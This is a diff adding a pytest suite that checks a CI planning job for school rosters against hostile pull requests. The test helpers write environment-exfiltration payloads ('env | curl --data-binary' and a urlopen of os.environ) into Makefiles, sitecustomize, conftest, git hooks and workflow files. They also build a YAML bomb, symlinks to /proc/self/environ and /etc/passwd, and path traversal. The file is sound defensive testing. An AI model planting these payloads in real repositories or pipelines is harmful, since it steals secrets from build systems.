@@ -1,0 +1,189 @@
+"""What a pull request tries against the job that plans it: it gets no secret and no write.
+
+Each is a real pull request on a real host, planned by the real workflow. The canaries are the job's
+secrets; they are searched in what was printed (which the runner does not mask here), in every
+request to the host, in what stands there afterwards, and in what reached somebody else's server.
+"""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.codehost.server import JOBS
+from tests.codehost.town import KEY, ROSTERS_TOKEN, JobResult, Recorder, Town, recording
+from tests.support.sandbox import GOOGLE
+
+Attack = Callable[[Path, str], None]
+"""Edits a clone; the text is the address of a server that belongs to the attacker."""
+
+
+def school(clone: Path) -> Path:
+    """A school's file."""
+    return clone / "schools" / f"{GOOGLE}.yaml"
+
+
+def append(path: Path, text: str) -> None:
+    """More at the end of a file."""
+    path.write_text(path.read_text("utf-8") + text, "utf-8")
+
+
+def evil_rule(clone: Path, server: str) -> None:
+    """A rule whose import sends the environment away."""
+    (clone / "policies" / "evil.py").write_text(
+        "import os, urllib.request\n"
+        f"urllib.request.urlopen({server!r}, data=repr(dict(os.environ)).encode())\n"
+    )
+    append(clone / "policies" / "__init__.py", "\nfrom policies import evil\n")
+    append(clone / "policies" / "pupils.py", "\nfrom policies import evil\n")
+
+
+def evil_targets(clone: Path, server: str) -> None:
+    """A Makefile, a conftest, a sitecustomize and a hook, all of which print the environment."""
+    steal = f"env | curl -s --data-binary @- {server}\n"
+    (clone / "Makefile").write_text(f"install:\n\t{steal}")
+    python = f"import os; os.system({steal!r})\n"
+    for name in ("sitecustomize.py", "conftest.py", "reconciler.py", "stacks/__main__.py"):
+        (clone / name).write_text(python)
+    hook = clone / ".githooks" / "post-checkout"
+    hook.parent.mkdir()
+    hook.write_text(f"#!/bin/sh\n{steal}")
+    hook.chmod(0o755)
+    (clone / ".gitattributes").write_text("* filter=evil diff=evil merge=evil\n")
+
+
+def evil_workflow(clone: Path, server: str) -> None:
+    """The jobs themselves, and the action that they use."""
+    steal = f"env | curl -s --data-binary @- {server}"
+    for file in (clone / ".gitea").rglob("*.yml"):
+        text = file.read_text("utf-8")
+        file.write_text(text.replace("reconciler ci $RUN", f"{steal}; reconciler ci $RUN"))
+
+
+def yaml_bomb(clone: Path, _server: str) -> None:
+    """A thousand million values in ten lines."""
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
+    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
+    append(school(clone), "\n".join(["", *lines, ""]))
+
+
+def other_host(clone: Path, server: str) -> None:
+    """A stack whose tenants, key and ledger lie at the attacker's."""
+    for stack in (clone / "stacks").glob("*.yaml"):
+        text = stack.read_text("utf-8").replace("endpoint: simulator", f"endpoint: {server}")
+        stack.write_text(text)
+
+
+def outside_path(clone: Path, _server: str) -> None:
+    """Manifests that are links: to the job's environment, and to a file of the machine."""
+    layout = clone / "schools" / "layouts" / "stolen.yaml"
+    layout.symlink_to("/proc/self/environ")
+    (clone / "schools" / "passwd.yaml").symlink_to("/etc/passwd")
+
+
+def outside_folder(clone: Path, _server: str) -> None:
+    """A layout that is said to lie outside of the repository."""
+    text = school(clone).read_text("utf-8")
+    school(clone).write_text(text.replace("layout: osnovno", "layout: ../../../../etc/passwd"))
+
+
+def own_waiver(clone: Path, _server: str) -> None:
+    """Outsiders among pupils, with the waiver and the level that would allow it."""
+    append(
+        school(clone),
+        "\ngroups:\n  club:\n    name: {bg: Клуб, en: Club}\n"
+        "    owners: [{role: teacher}]\n    members: [{role: pupil, grade: 5}]\n"
+        "    settings: {outsiders: true}\n",
+    )
+    levels = clone / "policies" / "levels.yaml"
+    levels.write_text(levels.read_text("utf-8").replace("mandatory", "advisory"))
+
+
+def prints_environment(clone: Path, _server: str) -> None:
+    """A name that looks like a variable, in every spelling."""
+    names = "${RECONCILER_PSEUDONYM_KEY} $ROSTERS_TOKEN {{ env.GITHUB_TOKEN }} ${{ secrets.X }}"
+    append(
+        school(clone),
+        f"\ngroups:\n  club:\n    name: {{bg: '{names}', en: '{names}'}}\n"
+        "    owners: [{role: teacher}]\n    members: [{role: teacher}]\n",
+    )
+
+
+def writes_the_secret(clone: Path, _server: str) -> None:
+    """Somebody who guessed the key has it confirmed by the comment? It is not sent."""
+    append(
+        school(clone),
+        f"\ngroups:\n  club:\n    name: {{bg: {KEY}, en: {KEY}}}\n"
+        "    owners: [{role: teacher}]\n    members: [{role: teacher}]\n",
+    )
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[Recorder]:
+    """The attacker's server: it hears of nothing."""
+    with recording("http://127.0.0.1:9") as recorder:
+        recorder.trouble = lambda _method, _path: (200, {})
+        yield recorder
+
+
+def attacked(town: Town, server: Recorder, attack: Attack) -> tuple[int, JobResult]:
+    """The pull request, planned by its job; nothing of the job's was seen or written."""
+    town.proxy.requests.clear()
+    written = town.sandbox.writes()
+    number = town.propose(attack.__name__, lambda clone: attack(clone, server.url))
+    result = town.job("pull_request_target", "plan", town.pull_event(number))
+    assert server.requests == []
+    assert town.sandbox.writes() == written
+    canaries = [KEY, ROSTERS_TOKEN, town.server.tokens[JOBS]]
+    shown = [result.out, town.comment(number), str(town.statuses(town.git("rev-parse", "HEAD")))]
+    shown += [body.decode(errors="replace") for _, _, body in town.proxy.requests]
+    assert [one for one in canaries for text in shown if one in text] == []
+    assert os.environ.get("HOME", "/nowhere") not in "".join(shown[1:])
+    return number, result
+
+
+@pytest.mark.parametrize("attack", [evil_rule, evil_targets, evil_workflow, other_host])
+def test_code_and_stacks_of_a_pull_request_are_never_used(
+    town: Town, server: Recorder, attack: Attack
+) -> None:
+    """The plan is made as if they were not there, and says where they decide something."""
+    number, result = attacked(town, server, attack)
+    assert result.code == 0, result.out
+    assert "this pull request changes nothing in the tenants" in town.comment(number)
+
+
+@pytest.mark.parametrize("attack", [yaml_bomb, outside_path, outside_folder, prints_environment])
+def test_files_that_cannot_be_manifests_are_told_and_not_read(
+    town: Town, server: Recorder, attack: Attack
+) -> None:
+    """At once, with their place, and without what they lead to."""
+    number, result = attacked(town, server, attack)
+    assert result.code != 0
+    comment = town.comment(number)
+    assert "No plan" in comment
+    assert "root:x:0" not in comment
+    assert "PATH=" not in comment
+    assert town.statuses(town.git("rev-parse", "HEAD")) == {"reconciler/plan (sandbox)": "failure"}
+
+
+def test_a_waiver_for_oneself_is_told_first_and_counts_only_after_the_merge(
+    town: Town, server: Recorder
+) -> None:
+    """The rule refuses the school as though the levels had not been touched."""
+    number, result = attacked(town, server, own_waiver)
+    assert result.code == 0, result.out
+    comment = town.comment(number)
+    assert "This pull request allows more" in comment
+    assert town.statuses(town.git("rev-parse", "HEAD")) == {"reconciler/plan (sandbox)": "failure"}
+
+
+def test_a_text_that_holds_a_secret_is_not_sent(town: Town, server: Recorder) -> None:
+    """The job fails and names the variable, never its value."""
+    number, result = attacked(town, server, writes_the_secret)
+    assert result.code != 0
+    assert "RECONCILER_PSEUDONYM_KEY: it was not sent" in result.out
+    assert KEY not in result.out + town.comment(number)
+    assert all(KEY.encode() not in body for _, _, body in town.proxy.requests)
